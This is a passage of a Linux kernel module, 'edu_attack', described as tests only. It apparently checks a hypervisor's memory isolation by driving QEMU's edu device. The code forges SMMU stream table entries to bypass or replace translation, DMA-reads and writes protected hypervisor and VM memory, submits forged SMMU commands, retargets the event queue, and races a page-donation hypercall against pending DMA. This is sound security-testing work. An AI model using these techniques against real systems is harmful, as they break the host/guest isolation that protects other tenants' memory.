/* Where sid's STE is in the host's stream table (its registers as the SMMU shows them), or 0. */
static u64 find_ste(void __iomem *r, u32 sid)
{
	u64 strtab = readq(r + SMMU_STRTAB_BASE) & GENMASK_ULL(51, 6);
	u32 cfg = readl(r + SMMU_STRTAB_BASE_CFG);
	u32 fmt = (cfg >> 16) & 3, split = (cfg >> 6) & 0x1f, log2size = cfg & 0x3f;
	u64 *l1, desc;

	if (sid >> log2size)
		return 0;
	if (fmt == 0)
		return strtab + (u64)sid * 64;
	l1 = memremap(strtab + (u64)(sid >> split) * 8, 8, MEMREMAP_WB);
	if (!l1)
		return 0;
	desc = READ_ONCE(*l1);
	memunmap(l1);
	pr_info("EDU: forge strtab %#llx cfg %#x l1 desc %#llx\n", strtab, cfg, desc);
	if (!(desc & 0x1f))
		return 0;
	return (desc & GENMASK_ULL(51, 6)) + (u64)(sid & ((1u << split) - 1)) * 64;
}

static void step_forge(struct edu *e)
{
	static struct forged_cmd cmds[] = {
		{ "sync", CMD_SYNC, 0, false },
		{ "tlbi-el2-all", 0x20, 0, true },
		{ "tlbi-s12-vmall", 0x28, 0, true },
		{ "tlbi-s2-ipa", 0x2a, KCORE_PA | 1, true },
		{ "atc-inv", 0x40 | (u64)0 << 32, KCORE_PA | 12, true },
		{ "pri-resp", 0x41, 0, true },
		{ "resume", 0x44, 0, true },
		{ "cfgi-vms-pidm", 0x07, 0, true },
		{ "undefined-0x7e", 0x7e, 0, true },
		/* CS = IRQ: the SMMU would write MSIData to MSIAddress, a raw PA. */
		{ "sync-msi-kcore", CMD_SYNC | 1 << 12 | (u64)0x5eed1234 << 32, KCORE_PA, false },
		{ "sync-msi-own", CMD_SYNC | 1 << 12 | (u64)0x5eed1234 << 32, 0, false },
	};
	struct forge_state *s = kzalloc(sizeof(*s), GFP_KERNEL);
	struct cmds_job cj;
	struct evtq_job ej;
	u64 ste_pa, own_pa, *t;
	void __iomem *r = NULL;
	int i;

	if (!s)
		goto fail;
	r = ioremap(smmu_base, SMMU_MAP_SIZE);
	s->own = alloc_page(GFP_KERNEL | __GFP_ZERO);
	s->qpage = alloc_page(GFP_KERNEL | __GFP_ZERO);
	s->s2page = alloc_page(GFP_KERNEL | __GFP_ZERO);
	if (!r || !s->own || !s->qpage || !s->s2page)
		goto fail;
	fill(s->own, TAG_OWN);
	own_pa = page_to_phys(s->own);
	s->fq.r = r;
	s->fq.q = page_address(s->qpage);
	s->fq.q_pa = page_to_phys(s->qpage);
	s->sid = pci_dev_id(e->pdev);
	ste_pa = find_ste(r, s->sid);
	if (!ste_pa)
		goto fail;
	s->ste_map = memremap(ste_pa & PAGE_MASK, PAGE_SIZE, MEMREMAP_WB);
	if (!s->ste_map)
		goto fail;
	s->ste = s->ste_map + (ste_pa & ~PAGE_MASK);
	for (i = 0; i < 8; i++)
		s->saved[i] = READ_ONCE(s->ste[i]);
	pr_info("EDU: forge ste sid %#x at %#llx config %llu: %016llx %016llx %016llx %016llx\n", s->sid,
		ste_pa, (s->saved[0] >> 1) & 7, s->saved[0], s->saved[1], s->saved[2], s->saved[3]);

	/* (a) Bypass: stage 1 off. SHCFG as Linux writes it (incoming). */
	s->bypass[0] = 1 | STE_CFG_BYPASS << 1;
	s->bypass[1] = 1ULL << 44;
	/* Stage 2 only, with the module's own identity table: a level-1 table of 1 GiB blocks
	 * for 0x40000000..0xffffffff (4 KiB granule, T0SZ 32, SL0 1), read-write, normal WB. */
	t = page_address(s->s2page);
	for (i = 1; i < 4; i++)
		t[i] = (u64)i << 30 | 1 | 0xf << 2 | 3 << 6 | 3 << 8 | 1 << 10;
	s->s2[0] = 1 | STE_CFG_S2 << 1;
	s->s2[1] = 1ULL << 44;
	s->s2[2] = 1 /* S2VMID */ | (u64)(32 | 1 << 6 | 1 << 8 | 1 << 10 | 3 << 12 | 2 << 16) << 32 |
		   1ULL << 51 /* S2AA64 */ | 1ULL << 58 /* S2R */;
	s->s2[3] = page_to_phys(s->s2page);

	forged_read(e, s, "forge bypass-own", s->bypass, own_pa);
	forged_read(e, s, "forge bypass-read", s->bypass, target_pa ? target_pa : KCORE_PA);
	if (vm_pa) {
		forged_read(e, s, "forge bypass-read", s->bypass, vm_pa);
		forged_write(e, s, "forge bypass-write", s->bypass, vm_pa);
	}
	forged_read(e, s, "forge s2-own", s->s2, own_pa);
	forged_read(e, s, "forge s2-read", s->s2, target_pa ? target_pa : KCORE_PA);
	if (vm_pa)
		forged_read(e, s, "forge s2-read", s->s2, vm_pa);
	if (s->broken) {
		/* One more try to put the driver's entry back. */
		s->broken = false;
		forge_ste(s, s->saved);
		s->broken = true;
	}
	for (i = 0; i < 8 && READ_ONCE(s->ste[i]) == s->saved[i]; i++)
		;
	pr_info("EDU: forge ste restored %s\n", i == 8 && !s->broken ? "yes" : "NO");
	if (s->broken)
		goto out;

	/* (b) */
	cmds[ARRAY_SIZE(cmds) - 1].w1 = own_pa + 0x800;
	cj = (struct cmds_job){ .f = &s->fq, .c = cmds, .n = ARRAY_SIZE(cmds) };
	stop_machine(cmds_cb, &cj, NULL);
	for (i = 0; i < cj.n; i++) {
		struct forged_cmd *c = &cmds[i];
		bool refused = FQ_IDX(c->cons) == c->at && CONS_ERR(c->cons) == 1 && c->toggled;
		bool accepted = FQ_IDX(c->cons) == FQ_IDX(c->at + 2) && !c->toggled && !c->active;
		bool resumed = FQ_IDX(c->after) == FQ_IDX(c->at + 2) && !c->active;

		pr_info("EDU: forge cmd %s %s (entry %#x cons %#x err %u gerror %s)%s cons-after %#x\n",
			c->name, refused ? "refused" : accepted ? "accepted" : "other", c->at, c->cons,
			CONS_ERR(c->cons), c->toggled ? "toggled" : "unchanged",
			refused ? (resumed ? " acknowledged, resumed" : " acknowledged, NOT resumed") : "",
			c->after);
	}
	pr_info("EDU: forge cmd sync-msi-own target %s\n",
		holds(s->own, TAG_OWN, PAGE_SIZE) ? "untouched" : "WRITTEN");
	pr_info("EDU: forge cmdq-in-kcore %s (cons %#x err %u gerror %s) acknowledged %s cons-after %#x\n",
		CONS_ERR(cj.kq_cons) == 2 && cj.kq_toggled && FQ_IDX(cj.kq_cons) == 0 ? "refused-abt" : "other",
		cj.kq_cons, CONS_ERR(cj.kq_cons), cj.kq_toggled ? "toggled" : "unchanged",
		cj.kq_active ? "NO" : "yes", cj.kq_after);

	/* (c) */
	ej = (struct evtq_job){ .r = r };
	stop_machine(evtq_cb, &ej, NULL);
	pr_info("EDU: forge irq-cfg0 gerror read %#llx evtq read %#llx (%s)\n", ej.gcfg, ej.ecfg,
		ej.gcfg == 0 && ej.ecfg == 0 ? "refused" : "taken");
	pr_info("EDU: forge evtq-base while-enabled read %#llx (%s)\n", ej.base_on,
		(ej.base_on & GENMASK_ULL(51, 5)) == KCORE_PA ? "taken" : "kept");
	pr_info("EDU: forge evtq-base disabled ack %#x read %#llx; enable cr0 %#x ack %#x (%s)\n", ej.ack_off,
		ej.base_off, ej.cr0_on, ej.ack_on, ej.ack_on & SMMU_CR0_EVTQEN ? "enabled" : "refused");
	pr_info("EDU: forge evtq restored base %#llx cr0 %#x ack %#x (%s)\n", ej.base_back, ej.cr0_back,
		ej.ack_back, ej.cr0_back == ej.ack_back && ej.ack_back & SMMU_CR0_EVTQEN ? "ok" : "NOT ok");
	/* (d) The device in its domain again. */
	step_legit(e);
	goto out;
fail:
	pr_info("EDU: forge failed (no mapping, memory or stream table entry)\n");
out:
	if (s) {
		if (s->ste_map)
			memunmap(s->ste_map);
		if (s->own)
			__free_page(s->own);
		if (s->qpage)
			__free_page(s->qpage);
		if (s->s2page)
			__free_page(s->s2page);
		kfree(s);
	}
	if (r)
		iounmap(r);
}

/*
 * donate=1: a page the device is writing into, donated to KCore in the middle. A host page P
 * is mapped for the device through the DMA API; the device writes TAG_DONATE into it a few
 * times; the next write is started and, while it is pending in the device, the module gives
 * P to KCore (KCORE_DONATE_PAGE, x1 = donate_vmid, x2 = P's pfn); then the device keeps
 * writing to the same DMA address. Every write after the hypercall returned must fault at
 * stage 2 (KCore unmapped P from the host's DMA table before returning): the module counts
 * the SMMU's event records (EVTQ_PROD before and after) and decodes them from the host's
 * event queue (F_TRANSLATION 0x10, S2, IPA = P).
 */
#define KCORE_DONATE_PAGE 0xC6000001	/* docs/ABI.md */
#define DONATE_WRITES_AFTER 5
#define EVT_F_TRANSLATION 0x10

/* Event records written between EVTQ_PROD values p0 and p1: how many, and how many say
 * F_TRANSLATION at stage 2 for IPA pa; *first gets the first record's dwords. */
static u32 count_events(void __iomem *r, u32 p0, u32 p1, u64 pa, u32 *match, u64 first[4])
{
	u64 base = readq(r + SMMU_EVTQ_BASE);
	u32 log2 = base & 0x1f, mask = (2u << log2) - 1, n = (p1 - p0) & mask, i, k;
	u64 *q;

	*match = 0;
	if (!n)
		return 0;
	q = memremap(base & GENMASK_ULL(51, 5), 32ULL << log2, MEMREMAP_WB);
	if (!q)
		return n;
	for (i = 0; i < n; i++) {
		u64 *ev = q + 4 * ((p0 + i) & ((1u << log2) - 1));

		if (i == 0)
			for (k = 0; k < 4; k++)
				first[k] = READ_ONCE(ev[k]);
		if ((ev[0] & 0xff) == EVT_F_TRANSLATION && (ev[1] >> 39 & 1) &&
		    (ev[3] & GENMASK_ULL(51, 12)) == pa)
			(*match)++;
	}
	memunmap(q);
	return n;
}

static void step_donate(struct edu *e)
{
	void __iomem *r = ioremap(smmu_base, SMMU_MAP_SIZE);
	struct page *p = alloc_page(GFP_KERNEL | __GFP_ZERO);
	struct arm_smccc_res res;
	unsigned long deadline;
	u32 ev0, ev1, ev2, match = 0, inflight, after, i;
	u64 first[4] = { 0 }, pa, iova;
	bool pending;
	int err = 0;

	if (!r || !p) {
		pr_info("EDU: donate failed (no mapping or memory)\n");
		goto out_free;
	}
	pa = page_to_phys(p);
	iova = dma_map_page(e->dev, p, 0, PAGE_SIZE, DMA_BIDIRECTIONAL);
	if (dma_mapping_error(e->dev, iova)) {
		pr_info("EDU: donate failed (dma_map_page)\n");
		goto out_free;
	}
	fill(e->page[0], TAG_DONATE);
	if (page_to_buf(e, 0))
		goto stuck;
	/* Before: the writes land. */
	for (i = 0; i < 2 && !err; i++)
		err = edu_copy(e, EDU_BUF, iova, len, true);
	if (err)
		goto stuck;
	dma_sync_single_for_cpu(e->dev, iova, PAGE_SIZE, DMA_BIDIRECTIONAL);
	pr_info("EDU: donate before pa %#llx iova %#llx writes %s\n", pa, iova,
		holds(p, TAG_DONATE, len) ? "landed" : "not-landed");

	/* One more write started, and the page donated while it is pending. */
	ev0 = readl(r + SMMU_EVTQ_PROD);
	writeq(EDU_BUF, e->bar + EDU_REG_SRC);
	writeq(iova, e->bar + EDU_REG_DST);
	writeq(len, e->bar + EDU_REG_CNT);
	writeq(EDU_CMD_RUN | EDU_CMD_TO_RAM, e->bar + EDU_REG_CMD);
	arm_smccc_1_1_hvc(KCORE_DONATE_PAGE, donate_vmid, page_to_pfn(p), 0, 0, &res);
	pending = readq(e->bar + EDU_REG_CMD) & EDU_CMD_RUN;
	deadline = jiffies + msecs_to_jiffies(EDU_WAIT_MS);
	while (readq(e->bar + EDU_REG_CMD) & EDU_CMD_RUN) {
		if (time_after(jiffies, deadline)) {
			e->stuck = true;
			break;
		}
		msleep(10);
	}
	pr_info("EDU: donate hypercall vmid %lu pfn %#lx -> %ld (%s), with a write %s\n", donate_vmid,
		page_to_pfn(p), (long)res.a0, (long)res.a0 == 0 ? "donated" : "refused",
		pending ? "still pending" : "already done");
	if ((long)res.a0 != 0) {
		/* Still the host's: an ordinary page again. */
		if (!e->stuck) {
			dma_unmap_page(e->dev, iova, PAGE_SIZE, DMA_BIDIRECTIONAL);
			__free_page(p);
		}
		p = NULL;
		goto out_free;
	}
	/*
	 * P is KCore's from here on: the kernel must never touch it again (a CPU write or a cache
	 * operation on it would be refused with an abort). It is deliberately leaked: never
	 * freed, never synced for the CPU; its DMA mapping goes without a CPU sync.
	 */
	ev1 = readl(r + SMMU_EVTQ_PROD);
	for (i = 0; i < DONATE_WRITES_AFTER && !e->stuck; i++)
		edu_copy(e, EDU_BUF, iova, len, true);
	/* The driver's interrupt thread consumes the events; PROD is final once the writes are done. */
	ev2 = readl(r + SMMU_EVTQ_PROD);
	inflight = count_events(r, ev0, ev1, pa, &match, first);
	first[0] = first[1] = first[2] = first[3] = 0;
	after = count_events(r, ev1, ev2, pa, &match, first);
	pr_info("EDU: donate after %u writes: smmu-events %u stage-2-at-pa %u (in-flight write: %u events; evtq prod %#x %#x %#x)\n",
		i, after, match, inflight, ev0, ev1, ev2);
	pr_info("EDU: donate first event %016llx %016llx %016llx %016llx\n", first[0], first[1], first[2],
		first[3]);
	if (!e->stuck)
		dma_unmap_page_attrs(e->dev, iova, PAGE_SIZE, DMA_BIDIRECTIONAL, DMA_ATTR_SKIP_CPU_SYNC);
	pr_info("EDU: donate page %#llx left to KCore (leaked by the kernel on purpose)\n", pa);
	p = NULL;
	goto out_free;
stuck:
	pr_info("EDU: donate timeout\n");
	p = NULL;	/* a copy may still be pending into it */
out_free:
	if (p)
		__free_page(p);
	if (r)
		iounmap(r);
}

/* All the steps the parameters ask for, on an enabled bus-master edu. */
static void run_steps(struct edu *e)
{
	struct iommu_group *group = iommu_group_get(e->dev);
	int i;

	pr_info("EDU: device %s %s, iommu group %d\n", pci_name(e->pdev),
		nobind ? "unbound" : "bound", group ? iommu_group_id(group) : -1);
	if (group)
		iommu_group_put(group);
	if (len == 0 || len > EDU_BUF_SIZE)
		len = 64;
	for (i = 0; i < 3; i++) {
		e->page[i] = alloc_page(GFP_KERNEL | __GFP_ZERO);
		if (!e->page[i])
			goto out;
		e->dma[i] = dma_map_page(e->dev, e->page[i], 0, PAGE_SIZE, DMA_BIDIRECTIONAL);
		if (dma_mapping_error(e->dev, e->dma[i]))
			goto out;
		e->mapped[i] = true;
	}
	if (legit)
		step_legit(e);
	if (target_pa) {
		step_read(e, "read", target_pa);
		if (do_write)
			step_write(e, target_pa);
	}
	if (mmio)
		step_mmio(e);
	if (forge && !nobind)
		step_forge(e);
	if (donate)
		step_donate(e);
	steps_run = 1;
out:
	if (!steps_run)
		pr_info("EDU: setup failed (pages or mappings)\n");
	if (e->stuck) {
		/* A copy may still be pending into these pages: they are never reused. */
		pr_info("EDU: a copy never finished; its pages are left allocated\n");
		return;
	}
	for (i = 0; i < 3; i++) {
		if (e->mapped[i])
			dma_unmap_page(e->dev, e->dma[i], PAGE_SIZE, DMA_BIDIRECTIONAL);
		if (e->page[i])
			__free_page(e->page[i]);
	}
}

static int use_device(struct pci_dev *pdev)
{
	struct edu e = { .pdev = pdev, .dev = &pdev->dev };
	int ret;

	ret = pci_enable_device(pdev);
	if (ret)
		return ret;
	ret = dma_set_mask_and_coherent(&pdev->dev, DMA_BIT_MASK(64));
	if (!ret) {
		e.bar = pci_iomap(pdev, 0, 0);
		ret = e.bar ? 0 : -ENOMEM;
	}
	if (ret) {
		pr_info("EDU: setup failed (%d)\n", ret);
		pci_disable_device(pdev);
		return ret;
	}
	pci_set_master(pdev);
	run_steps(&e);
	/* Bus mastering off: a copy that never finished can no longer reach memory. */
	pci_clear_master(pdev);
	pci_iounmap(pdev, e.bar);
	pci_disable_device(pdev);
	return 0;
}

static int edu_probe(struct pci_dev *pdev, const struct pci_device_id *id)
{
	use_device(pdev);
	return 0;
}

static void edu_remove(struct pci_dev *pdev)
{
}

static const struct pci_device_id edu_ids[] = {
	{ PCI_DEVICE(EDU_VENDOR, EDU_DEVICE) },
	{ }
};

static struct pci_driver edu_driver = {
	.name = "edu_attack",
	.id_table = edu_ids,
	.probe = edu_probe,
	.remove = edu_remove,
};

static int __init edu_attack_init(void)
{
	struct pci_dev *pdev = pci_get_device(EDU_VENDOR, EDU_DEVICE, NULL);
	int ret;

	if (!pdev) {
		pr_info("EDU: no device\n");
		if (mmio)
			step_mmio(NULL);
		pr_info("EDU: done\n");
		return 0;
	}
	if (nobind) {
		use_device(pdev);
	} else {
		/* Probing binds the device, which puts it in its IOMMU group's domain first. */
		ret = pci_register_driver(&edu_driver);
		if (!ret)
			pci_unregister_driver(&edu_driver);
		else
			pr_info("EDU: driver registration failed (%d)\n", ret);
	}
	pci_dev_put(pdev);
	if (!steps_run)
		pr_info("EDU: no steps ran\n");
	pr_info("EDU: done\n");
	return 0;
}

static void __exit edu_attack_exit(void)
{
}

module_init(edu_attack_init);
module_exit(edu_attack_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("edu_attack: DMA through QEMU's edu device at physical addresses (tests only)");
